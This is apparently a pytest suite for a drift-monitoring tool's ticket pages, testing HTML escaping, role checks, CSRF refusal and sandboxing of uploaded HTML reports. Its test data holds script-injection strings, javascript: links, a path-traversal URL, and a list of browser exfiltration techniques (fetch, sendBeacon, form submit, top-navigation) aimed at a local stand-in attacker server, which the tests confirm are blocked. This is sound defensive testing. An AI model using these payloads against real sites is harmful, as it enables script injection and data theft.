"""Ticket pages over a real server and store: what they show, who may do what, and that no script in them runs."""

from __future__ import annotations

import contextlib
import json
import os
import re
import shutil
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import httpx
import pytest
from playwright.sync_api import Error as PlaywrightError
from playwright.sync_api import sync_playwright
from sqlalchemy import Connection, text
from support import signed_in

from alerting import runbook
from alerting.intake.notification import Alert
from alerting.lifecycle import decisions
from telltale import conversation as said
from telltale.conversation import Conversation, Message
from telltale.evidence.scores import Details, Examples, Persistence, WordChange, WordChanges
from telltale.records import Feedback, Judged, Sample, Score
from telltale.store import Store, audit, evidence, feedback, samples, scores, tickets
from telltale.web import people

SCRIPT = "<script>document.title='owned'</script>"
PASSWORD = "correct horse battery"
SERIES = {"monitor": "tokens", "signal": "words", "direction": "prompt", "tenant": ""}


def alert(name: str, **labels: str) -> Alert:
    base = {"alertname": name, "severity": "ticket", "lane": "retrain", "model": "support", "version": "support-2"}
    notes = {"summary": f"{name} of support", "signal": "x", "dashboard_url": "javascript:alert(1)"}
    return Alert(name.lower().encode().hex()[:16], True, base | labels, notes, time.time() - 500)


@dataclass(frozen=True)
class Story:
    """A drifting model with everything that a ticket can carry. `number` is the ticket's."""

    number: int
    evidence: int


REPORT = b"""<p>report</p><script>
document.querySelector('p').textContent += ' ran';
try { parent.document.title = 'owned' } catch { document.querySelector('p').textContent += ', caged' }
</script>"""


@pytest.fixture
def story(store: Store) -> Story:
    now = time.time()
    shown = ("shop", "support", "support-2", "client", "chat", "ok")
    rows = [
        Sample(f"{i:032x}", "b" * 16, now - 600 + i, *shown, f"prompt number {i} {SCRIPT}", f"reply {i} {SCRIPT}", 0.5)  # type: ignore[arg-type]  # a layer and a status
        for i in range(1, 6)
    ]
    asked: Message = {"role": "user", "parts": [said.text(rows[0].prompt)]}
    answer: Message = {"role": "assistant", "parts": [said.text(rows[0].response)]}
    rows[0] = rows[0]._replace(conversation=Conversation([said.text(f"Be kind. {SCRIPT}")], [asked], [answer]))
    vote = Feedback(now - 300, "shop", f"{1:032x}", None, "thumb", "helpful", 0.0, "user", "k", f"wrong {SCRIPT}")

    def write(c: Connection) -> Story:
        samples.save(c, rows, now)
        ids = [sample.id for sample in samples.load(c)]
        feedback.append(c, vote, "0" * 64)
        number = evidence.put(c, REPORT, kind="evidently", media_type="text/html; charset=utf-8", now=now)
        scores.save(c, [window(i, now, ids, number) for i in range(12)])
        votes = {"direction": "feedback", "samples": 80, "effect": 0.3, "threshold": 0.1, "evidence_id": None}
        scores.save(c, [replace(window(11, now, ids, number), monitor="feedback", signal="negative_ratio", **votes)])  # type: ignore[arg-type]  # fields of a score
        found = [alert("ModelDriftPersistent", **SERIES), alert("NegativeFeedbackHigh")]
        (ticket,) = decisions.apply_notification(c, found, now - 200, 3600.0)
        return Story(ticket.id or 0, number)

    return store.write(write)


def window(i: int, now: float, ids: list[int | None], number: int) -> Score:
    """The i-th of twelve windows; the model is new and drifts from the tenth on."""
    state: Judged = "alert" if i > 9 else "suspect" if i > 8 else "ok"
    end = now - 300 - 60 * (12 - i)
    details = Details(
        WordChanges((WordChange(f"refund{SCRIPT}", 9.1, 0.4, 0.02),)),
        Examples(tuple(key for key in ids if key), (f"before {SCRIPT}",)),
        Persistence(3, 4, 3, alert_before=False),
    )
    series = ("tokens", "words", "prompt", "support", "support-2" if i > 8 else "support-1")
    numbers = (9.0 if i > 8 else 1.5, 4.0, 0.001)
    return Score(*series, end - 60, end, 300, state, *numbers, details=details, evidence_id=number)  # type: ignore[arg-type]  # a direction


@pytest.fixture
def browser(pages: str, store: Store) -> Iterator[httpx.Client]:
    with signed_in.browser(store, pages) as client:
        yield client


def test_the_page_shows_what_since_when_why_and_what_to_do(browser: httpx.Client, story: Story) -> None:
    response = browser.get(f"/tickets/{story.number}")
    assert response.status_code == 200
    page = response.text
    for expected in (
        "support: drift, more negative feedback (support-2)",
        '<a href="/models/support">',
        "3 of the last 4 (3 needed)",
        "prompt number 1",
        "Examples now and in the reference",
        f"telltale export --ticket T-{story.number} --format kto -o T-{story.number}-kto.jsonl</pre>",
        "TELLTALE_DATA_DIR=/",
        f"more refund{SCRIPT}".replace("<", "&lt;").replace(">", "&gt;").replace("'", "&#39;"),
        f'src="/evidence/{story.evidence}"',
        "Ticket opened",
        "Mitigation",
        '<svg class="chart"',
        "wrong &lt;script&gt;",
        "The whole conversation",
        "<pre>Be kind. &lt;script&gt;",
    ):
        assert expected in page, expected
    assert "<script" not in page
    assert "javascript:" not in page


def test_windows_that_an_earlier_version_judged_are_shown_and_a_broken_one_harms_no_other(
    browser: httpx.Client, story: Story, store: Store
) -> None:
    words = [{"word": "warranty", "z": 8.0, "current_share": 0.3, "reference_share": 0.01}]
    flat = {"words": words, "hit": True, "windows_hit": 2, "windows_seen": 5, "windows_needed": 2}

    def rewrite(connection: Connection) -> None:
        change = text("UPDATE scores SET details = :details WHERE monitor = :monitor")
        connection.execute(change, {"details": json.dumps(flat), "monitor": "tokens"})
        connection.execute(change, {"details": json.dumps({"words": 3}), "monitor": "feedback"})

    store.write(rewrite)
    page = browser.get(f"/tickets/{story.number}")
    assert page.status_code == 200
    assert "more warranty" in page.text
    assert "2 of the last 5 (2 needed)" in page.text
    series = browser.get(f"/api/v1/tickets/{story.number}").json()["series"]
    assert {one["monitor"]: one["finding"] and one["finding"]["words"] for one in series} == {
        "tokens": words,
        "feedback": None,
    }


def test_a_ticket_tells_since_the_first_window_that_showed_the_change(
    browser: httpx.Client, story: Story, store: Store
) -> None:
    before = browser.get(f"/api/v1/tickets/{story.number}").json()["since"]
    change = text("UPDATE scores SET since = :since WHERE monitor = 'tokens' AND state != 'ok'")
    store.write(lambda connection: connection.execute(change, {"since": before - 5000}))
    assert browser.get(f"/api/v1/tickets/{story.number}").json()["since"] == before - 5000


def test_only_the_parts_that_alerts_name_are_shown_beside_the_whole_and_versions_are_not_mixed(
    browser: httpx.Client, store: Store
) -> None:
    now = time.time()
    of = {**SERIES, "tenant": "shop", "segment": "app=checkout"}

    def write(connection: Connection) -> int:
        windows = [replace(window(i, now, [], 0), evidence_id=None) for i in range(12)]
        # A canary: the version before it is served on, and judged at the same time.
        beside = [replace(score, version="support-1", state="ok", effect=1.0) for score in windows[9:]]
        drifting = [replace(score, tenant=of["tenant"], segment=of["segment"]) for score in [*windows, *beside]]
        other = [replace(score, tenant="bank") for score in windows]
        scores.save(connection, [*windows, *drifting, *other])
        found = [alert("ModelDriftPersistent", **of)]
        return decisions.apply_notification(connection, found, now - 200, 3600.0)[0].id or 0

    number = store.write(write)
    found = browser.get(f"/api/v1/tickets/{number}").json()["series"]
    assert [(one["tenant"], one["segment"], one["alarming"]) for one in found] == [
        ("shop", "app=checkout", True),
        ("", "", False),
    ]
    assert [point["effect"] for point in found[0]["history"]] == [1.5] * 9 + [9.0] * 3
    assert found[0]["version"] == "support-2"
    assert "tokens of prompts, tenant shop, app=checkout (words)" in browser.get(f"/tickets/{number}").text


def test_the_report_runs_in_an_origin_of_its_own(browser: httpx.Client, story: Story, store: Store) -> None:
    response = browser.get(f"/evidence/{story.evidence}")
    assert response.status_code == 200
    policy = response.headers["content-security-policy"]
    assert policy.startswith("sandbox allow-scripts;")
    assert "allow-same-origin" not in policy
    assert "default-src 'none'" in policy
    with store.read() as connection:
        assert audit.entries(connection, 1)[0].action == "evidence_read"
    assert browser.get("/evidence/999").status_code == 404


def test_the_list_and_its_twins_in_json(browser: httpx.Client, story: Story) -> None:
    assert f'<a href="/tickets/{story.number}">T-{story.number}</a>' in browser.get("/tickets").text
    assert "T-" not in browser.get("/tickets", params={"show": "closed"}).text
    (row,) = browser.get("/api/v1/tickets").json()["tickets"]
    assert (row["id"], row["state"], row["model"], row["version"]) == (story.number, "open", "support", "support-2")
    one = browser.get(f"/api/v1/tickets/{story.number}").json()
    assert {entry["name"] for entry in one["alerts"]} == {"ModelDriftPersistent", "NegativeFeedbackHigh"}
    assert [series["monitor"] for series in one["series"] if series["alarming"]] == ["feedback", "tokens"]
    assert one["events"][0]["kind"] == "opened"
    assert " telltale export --ticket T-" in one["export_command"]


def test_what_is_not_there_is_404(browser: httpx.Client) -> None:
    for path in ("/tickets/1", "/api/v1/tickets/1", "/runbooks/Nothing", "/runbooks/..%2Frules%2Ftelltale"):
        assert browser.get(path).status_code == 404, path
    assert browser.get("/tickets/0").status_code == 422
    assert browser.get(f"/tickets/{2**63}").status_code == 422


def test_a_ticket_is_acknowledged_commented_closed_and_reopened(
    browser: httpx.Client, story: Story, store: Store
) -> None:
    base = f"/tickets/{story.number}"
    assert browser.post(f"{base}/acknowledge").status_code == 303
    assert "acknowledged" in browser.get(base).text
    assert browser.post(f"{base}/comment", data={"words": "ask jo@example.com <b>"}).status_code == 303
    page = browser.get(base).text
    assert "jo@example.com" not in page
    assert "&lt;b&gt;" in page
    decision = {"reason": "fixed", "words": "as wanted"}
    assert browser.post(f"{base}/close", data=decision).status_code == 303
    assert browser.post(f"{base}/close", data=decision).status_code == 409
    with store.read() as connection:
        ticket = tickets.get(connection, story.number)
    assert ticket is not None
    assert (ticket.state, ticket.close_reason) == ("closed", "fixed")
    assert browser.post(f"{base}/reopen").status_code == 303
    assert browser.post(f"{base}/reopen").status_code == 409
    with store.read() as connection:
        ticket = tickets.get(connection, story.number)
        actions = [entry.action for entry in audit.entries(connection, 10)][::-1]
        assert audit.verify(connection) is None
    assert ticket is not None
    assert (ticket.state, ticket.episode) == ("open", 2)
    assert actions == ["person_added", "ticket_acknowledged", "ticket_comment", "ticket_closed", "ticket_reopened"]


def test_empty_and_endless_comments_are_refused(browser: httpx.Client, story: Story) -> None:
    for words in ("", "   ", "x" * 4001):
        assert browser.post(f"/tickets/{story.number}/comment", data={"words": words}).status_code == 422


def test_another_site_cannot_act(browser: httpx.Client, story: Story) -> None:
    headers = {"Sec-Fetch-Site": "cross-site"}
    assert browser.post(f"/tickets/{story.number}/close", headers=headers).status_code == 403


def test_a_viewer_sees_the_numbers_but_no_content(pages: str, story: Story, store: Store) -> None:
    people.add(store, name="vera", role="viewer", password=PASSWORD, actor="test", now=time.time())
    headers = {"Accept": "text/html", "Sec-Fetch-Site": "same-origin"}
    with httpx.Client(base_url=pages, headers=headers) as vera:
        assert vera.post("/sign-in", data={"name": "vera", "password": PASSWORD}).status_code == 303
        page = vera.get(f"/tickets/{story.number}").text
        assert '<svg class="chart"' in page
        for hidden in ("prompt number", "reply 1", "before &lt;", "wrong &lt;", "/evidence/", "<textarea"):
            assert hidden not in page, hidden
        shown = vera.get(f"/api/v1/tickets/{story.number}").json()
        assert all("examples" not in series for series in shown["series"])
        assert vera.get(f"/evidence/{story.evidence}").status_code == 403
        for action in ("comment", "acknowledge", "close", "reopen"):
            assert vera.post(f"/tickets/{story.number}/{action}", data={"words": "x"}).status_code == 403
    with httpx.Client(base_url=pages) as nobody:
        for path in ("/tickets", f"/tickets/{story.number}", "/api/v1/tickets", "/runbooks"):
            assert nobody.get(path).status_code == 401, path


def test_every_runbook_is_a_page(browser: httpx.Client) -> None:
    assert len(runbook.names()) > 10
    for name in runbook.names():
        page = browser.get(f"/runbooks/{name}").text
        assert f"<h1>{name}</h1>" in page
        assert not re.search(r"</(p|li|h2)>\s*[^<\s]", page), "text outside of elements"
        assert "`" not in page


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("# A & B", "<h1>A &amp; B</h1>"),
        ("- one\n- `two <b>`", "<ul><li>one</li><li><code>two &lt;b&gt;</code></li></ul>"),
        ("1. one\n2. *two*", "<ol><li>one</li><li><em>two</em></li></ol>"),
        ("see [it](https://x.example/?a=1&b=2)", '<p>see <a href="https://x.example/?a=1&amp;b=2">it</a></p>'),
        ("[no](javascript:alert(1))", "<p>[no](javascript:alert(1))</p>"),
        ("<script>", "<p>&lt;script&gt;</p>"),
    ],
)
def test_markdown(text: str, expected: str) -> None:
    assert runbook.html(text) == expected


def test_a_ticket_without_evidence_still_has_a_page(browser: httpx.Client, store: Store) -> None:
    lone = alert("ModelDriftPersistent", **SERIES)
    store.write(lambda connection: decisions.apply_notification(connection, [lone], time.time(), 3600.0))
    page = browser.get("/tickets/1")
    assert page.status_code == 200
    assert "holds no judged windows" in page.text


def test_a_ticket_of_the_stack_itself_has_a_page(browser: httpx.Client, store: Store) -> None:
    down = alert("CollectorDown", lane="ops", severity="page", instance="a:9464", model="", version="")
    store.write(lambda connection: decisions.apply_notification(connection, [down], time.time(), 3600.0))
    page = browser.get("/tickets/1").text
    assert "CollectorDown of support" in page
    assert "<h3>CollectorDown</h3>" in page
    assert "telltale export" not in page


def test_in_a_browser_nothing_of_ours_is_blocked_and_the_report_is_caged(
    pages: str, store: Store, story: Story, require: Callable[[object, str], None]
) -> None:
    executable = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    require(executable, "Chromium is not on PATH: apt-get install chromium")
    console_errors: list[str] = []
    with sync_playwright() as playwright:
        # Chromium's own sandbox refuses to run as root.
        arguments = ["--no-sandbox"] if os.geteuid() == 0 else []
        chromium = playwright.chromium.launch(executable_path=executable, args=arguments)
        page = chromium.new_page()
        page.context.add_cookies([{"name": n, "value": v, "url": pages} for n, v in signed_in.session(store).items()])
        page.on("console", lambda message: console_errors.append(message.text))
        page.on("pageerror", lambda error: console_errors.append(str(error)))
        page.set_viewport_size({"width": 390, "height": 844})
        page.goto(f"{pages}/tickets/{story.number}")
        assert page.evaluate("document.documentElement.scrollWidth") == 390, "a phone would scroll sideways"
        page.get_by_text("Report on prompts").click()
        report = page.frame_locator("iframe.report").frame_locator("iframe")
        report.get_by_text("report ran, caged").wait_for()
        page.get_by_role("button", name="Acknowledge").click()
        page.get_by_text("Acknowledged", exact=True).wait_for()
        assert page.title().endswith("(support-2) · Telltale")
        response = page.goto(f"{pages}/evidence/{story.evidence}")
        assert response is not None
        assert response.status == 200
        page.frame_locator("iframe").get_by_text("report ran").wait_for()
        chromium.close()
    assert console_errors == []


WAYS_OUT = (
    "location.href = there",
    "top.location.href = there",
    "parent.location.href = there",
    "window.open(there)",
    "fetch(there, {mode: 'no-cors'}).catch(() => 0)",
    "navigator.sendBeacon(there)",
    "new Image().src = there",
    "document.body.append(Object.assign(document.createElement('form'), {action: there, id: 'f'})); f.submit()",
    "document.body.append(Object.assign(document.createElement('iframe'), {src: there}))",
    "document.body.append(Object.assign(document.createElement('a'), "
    "{href: there, target: '_top', id: 'a'})); a.click()",
    "document.head.append(Object.assign(document.createElement('meta'), "
    "{httpEquiv: 'refresh', content: '0;url=' + there}))",
)


def test_a_hostile_report_can_neither_send_nor_go_anywhere(
    pages: str, store: Store, require: Callable[[object, str], None]
) -> None:
    executable = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    require(executable, "Chromium is not on PATH: apt-get install chromium")
    asked: list[str] = []

    class Attacker(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_error(404)

        do_POST = do_GET

        def log_message(self, *_: object) -> None:
            """Nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Attacker) as attacker, sync_playwright() as playwright:
        threading.Thread(target=attacker.serve_forever, daemon=True).start()
        there = f"http://127.0.0.1:{attacker.server_port}/"
        arguments = ["--no-sandbox"] if os.geteuid() == 0 else []
        chromium = playwright.chromium.launch(executable_path=executable, args=arguments)
        context = chromium.new_context()
        context.add_cookies([{"name": n, "value": v, "url": pages} for n, v in signed_in.session(store).items()])
        for number, way in enumerate(WAYS_OUT):
            script = f"const there = '{there}{number}'; try {{ {way} }} finally {{ p.textContent = 'tried' }}"
            body = f"<body><p id=p></p><script>onload = () => {{ {script} }}</script>".encode()
            key = store.write(
                lambda c, body=body: evidence.put(c, body, kind="evidently", media_type="text/html", now=time.time())
            )
            page = context.new_page()
            page.goto(f"{pages}/evidence/{key}")
            with contextlib.suppress(PlaywrightError):  # a frame that was kept from leaving shows that instead
                page.frame_locator("iframe").get_by_text("tried").wait_for(timeout=700)
            page.wait_for_timeout(100)
            assert page.url == f"{pages}/evidence/{key}", way
            assert len(page.context.pages) == 1, way
            page.close()
        chromium.close()
        attacker.shutdown()
    assert asked == []
